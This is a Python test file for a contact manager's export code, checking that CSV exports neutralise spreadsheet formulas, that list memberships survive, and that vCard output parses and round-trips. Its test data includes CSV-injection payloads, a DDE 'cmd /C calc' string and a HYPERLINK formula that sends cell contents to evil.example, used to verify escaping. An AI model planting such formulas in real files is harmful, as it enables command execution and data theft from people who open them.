"""Exporting contacts: formula-safe CSV with list memberships, vCard 3.0, and round trips."""

from __future__ import annotations

import csv
import io

import vobject

from righthand.duties.lists import exporter
from righthand.duties.lists.csv_io import escape_cell, unescape_cell
from tests.conftest import new_workspace
from tests.support.contacts import contact, fixture, import_bytes, make_list, state_on


def _export(app, ws, kind: str = "csv") -> str:
    out = io.StringIO()
    with app.db.unit(ws, write=False) as session:
        if kind == "csv":
            exporter.write_csv(session, out)
        else:
            exporter.write_vcards(session, out)
    return out.getvalue()


def test_escaping_rule():
    for dangerous in ("=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert escape_cell(dangerous) == "'" + dangerous
        assert unescape_cell(escape_cell(dangerous)) == dangerous
    assert escape_cell("Bob") == "Bob" and escape_cell("'quoted") == "'quoted"
    assert unescape_cell("'quoted") == "'quoted"  # only our own escapes are undone


def test_csv_export_neutralises_formulas_and_keeps_everything(app):
    ws = new_workspace(app)
    make_list(app, ws)
    import_bytes(app, ws, fixture("hostile.csv"), "hostile.csv", list_name="newsletter")
    text = _export(app, ws)
    rows = list(csv.DictReader(io.StringIO(text)))
    eve = next(r for r in rows if r["email"] == "eve@example.com")
    assert eve["company"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")"
    assert eve["notes"] == "'=1+2" and eve["tags"] == "'@SUM(A1:A9)"
    assert eve["phone"] == "'+1 617 555 0144"
    assert eve["lists"] == "newsletter:confirmed"
    mallory = next(r for r in rows if r["email"] == "mallory@example.com")
    assert mallory["notes"] == "Tabbed note" and mallory["phone"] == "'-2+3"  # trimmed
    long_notes = next(r for r in rows if r["email"] == "long.notes@example.com")
    assert len(long_notes["notes"]) == 10_000
    for row in rows:  # no cell anywhere can start a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_round_trip_is_lossless(app):
    ws = new_workspace(app)
    make_list(app, ws)
    make_list(app, ws, "buyers", "Buyer alerts", "double")
    for name in ("outlook_cp1252.csv", "google.csv", "hostile.csv"):
        import_bytes(app, ws, fixture(name), name, list_name="newsletter")
    import_bytes(app, ws, fixture("apple_v3.vcf"), "apple_v3.vcf", list_name="buyers")
    text = _export(app, ws)

    copy = new_workspace(app)
    make_list(app, copy)
    buyers = make_list(app, copy, "buyers", "Buyer alerts", "double")
    job, _ = import_bytes(app, copy, text.encode("utf-8-sig"), "export.csv")
    assert job.invalid == 0 and job.report["encoding"] == "utf-8-sig"
    for address in ("zoe.mueller@example.de", "dev.patel@firstharbor.example",
                    "eve@example.com", "mallory@example.com", "long.notes@example.com",
                    "olivia@brownarchitects.example", "multi.line@example.com"):
        before, after = contact(app, ws, address), contact(app, copy, address)
        for key in ("display_name", "given_name", "family_name", "company", "notes",
                    "timezone", "tags", "attributes", "postal_address"):
            assert before[key] == after[key], (address, key)
        assert [a for a, _ in before["emails"]] == [a for a, _ in after["emails"]]
        assert [p["raw"] for p in before["phones"]] == [p["raw"] for p in after["phones"]]
        assert [(m["list"], m["state"]) for m in before["lists"]] == \
            [(m["list"], m["state"]) for m in after["lists"]]
    assert state_on(app, copy, buyers, "olivia@brownarchitects.example") == "unconfirmed"


def test_vcard_export_reads_back(app):
    ws = new_workspace(app)
    import_bytes(app, ws, fixture("apple_v3.vcf"), "apple_v3.vcf")
    import_bytes(app, ws, fixture("rfc6350_v4.vcf"), "rfc6350_v4.vcf")
    import_bytes(app, ws, fixture("hostile.csv"), "hostile.csv")
    text = _export(app, ws, "vcard")
    cards = list(vobject.readComponents(text))
    assert len(cards) == 3 + 2 + 6
    for line in text.split("\r\n"):
        assert len(line.encode("utf-8")) <= 75  # folded as RFC 6350 asks
    olivia = next(c for c in cards if c.fn.value == "Dr. Olivia Brown")
    assert olivia.n.value.family == "Brown" and olivia.org.value == ["Brown Architects"]
    assert {e.value for e in olivia.contents["email"]} == {"olivia@brownarchitects.example",
                                                            "olivia.brown@example.com"}
    assert olivia.adr.value.city == "Boston" and olivia.categories.value == ["past client",
                                                                              "architect"]
    simon = next(c for c in cards if c.fn.value == "Simon Perreault")
    assert simon.tz.value == "America/Toronto"

    copy = new_workspace(app)
    job, _ = import_bytes(app, copy, text.encode("utf-8"), "export.vcf")
    assert (job.created, job.invalid) == (11, 0)
    for address in ("olivia@brownarchitects.example", "simon.perreault@viagenie.ca",
                    "long.notes@example.com", "eve@example.com"):
        before, after = contact(app, ws, address), contact(app, copy, address)
        for key in ("display_name", "company", "notes", "tags", "postal_address", "timezone"):
            assert before[key] == after[key], (address, key)
